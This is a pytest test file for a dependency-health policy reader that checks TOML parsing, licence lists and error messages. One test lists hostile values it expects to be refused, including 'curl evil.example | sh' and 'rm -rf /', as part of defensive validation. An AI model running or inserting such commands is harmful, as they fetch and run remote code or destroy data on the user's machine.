from __future__ import annotations

import tomllib
from datetime import date

import pytest
from tests.support.every import for_each

from poetry_aiops.errors import ConfigError
from poetry_aiops.health.ignores import Ignore
from poetry_aiops.health.policy import NO_POLICY, Policy, read_policy
from poetry_aiops.health.signals import SignalKind


def policy(text: str) -> Policy:
    return read_policy(tomllib.loads(text))


def refused(text: str) -> str:
    with pytest.raises(ConfigError) as error:
        policy(text)
    return str(error.value)


def test_a_full_policy_is_read() -> None:
    found = policy(
        """
        [health]
        fail-on = "high"
        min-score = 70
        fail-on-signals = ["yanked", "quarantined"]
        young-days = 14

        [[health.ignores]]
        id = "CVE-2025-1"
        reason = "the parser is not used"
        owner = "ann"
        expires = 2026-12-31
        until-fixed = true
        packages = ["Some_Thing"]

        [[health.ignores]]
        id = "GHSA-2"
        reason = "only on Windows"
        expires = "2026-10-01"
        """
    )
    first = Ignore("CVE-2025-1", "the parser is not used", "ann", date(2026, 12, 31), until_fixed=True)
    assert (found.fail_on, found.min_score, found.young_days) == ("high", 70.0, 14)
    assert found.fail_on_signals == frozenset({SignalKind.YANKED, SignalKind.QUARANTINED})
    assert found.ignores[0].packages == {"some-thing"}
    assert found.ignores[0].key_path == "[tool.poetry-aiops.health] ignores[0]"
    assert (found.ignores[0].id, found.ignores[0].expires, found.ignores[0].until_fixed) == (
        first.id,
        first.expires,
        True,
    )
    assert found.ignores[1].expires == date(2026, 10, 1)


@pytest.mark.parametrize("table", [None, {}, {"hardware": {}}])
def test_no_table_is_no_policy(table: object) -> None:
    assert read_policy(table) == NO_POLICY


@for_each(
    "line",
    [
        'advisories = "https://evil.example/all.zip"',
        'osv-url = "https://evil.example"',
        'notify = "curl evil.example | sh"',
        'webhook = "https://evil.example"',
        'command = "rm -rf /"',
        'anything = "ftp://evil.example"',
        "service = { name = 1 }",
        '[[health.ignores]]\nid = "A"\nreason = "b"\nhook = "sh"',
    ],
)
def test_addresses_and_commands_are_refused_with_the_way_that_is_open(line: str) -> None:
    message = refused(f"[health]\n{line}")
    assert "cannot be set in pyproject.toml" in message
    assert "--advisories" in message


@for_each(
    ("text", "words"),
    [
        ('[health]\nfail-on = "hihg"', 'Did you mean "high"?'),
        ("[health]\nfail-on = 3", "must be text in quotes, but is a number"),
        ("[health]\nmin-score = 101", "must be between 0 and 100"),
        ("[health]\nmin-score = true", "must be a number, but is true or false"),
        ("[health]\nmin-score = nan", "must be between 0 and 100"),
        ('[health]\nfail-on-signals = ["yankd"]', 'Did you mean "yanked"?'),
        ("[health]\nfailon = 1", 'Did you mean "fail-on"?'),
        ('[[health.ignores]]\nid = "A"', "ignores[0] reason: is missing"),
        ('[[health.ignores]]\nid = " "\nreason = "b"', "ignores[0] id: is missing"),
        ('[[health.ignores]]\nid = "A"\nreason = "b"\nexpires = "soon"', '"soon" is not a date'),
        ("health = 1", "must be a table"),
    ],
)
def test_a_wrong_entry_is_told_with_its_key_path(text: str, words: str) -> None:
    assert words in refused(text)


def test_every_wrong_entry_is_told_at_once() -> None:
    message = refused('[health]\nfail-on = "x"\nmin-score = -1\nurl = "y"')
    assert message.count("[tool.poetry-aiops.health]") >= 4


def test_sources_that_are_left_out_are_names() -> None:
    assert read_policy({"health": {"left-out-sources": ["GPU-wheels"]}}).left_out_sources == {"gpu-wheels"}
    with pytest.raises(ConfigError, match="left-out-sources"):
        read_policy({"health": {"left-out-sources": "gpu-wheels"}})


def test_licences_are_identifiers_of_spdx_in_any_case() -> None:
    found = policy(
        """
        [health]
        exploited = true
        licenses = { allow = ["mit", "GPL-3.0", "LicenseRef-House"], deny = ["AGPL-3.0-only"], known = { Old_Parser = "mit or isc" } }
        """
    )
    assert found.exploited
    assert found.licences.allow == {"mit", "gpl-3.0", "licenseref-house"}
    assert dict(found.licences.known) == {"old-parser": "MIT OR ISC"}
    assert policy("").licences.decides is False


@for_each(
    ("table", "place"),
    [
        ('allow = ["MIT License"]', "licenses allow"),
        ('deny = ["MIT OR ISC"]', "licenses deny"),
        ('known = { parser = "BSD" }', "licenses known parser"),
        ('allows = ["MIT"]', "licenses allows"),
        ('allow = "MIT"', "licenses allow"),
    ],
)
def test_a_licence_that_spdx_does_not_list_is_refused(table: str, place: str) -> None:
    assert place in refused(f"[health.licenses]\n{table}")
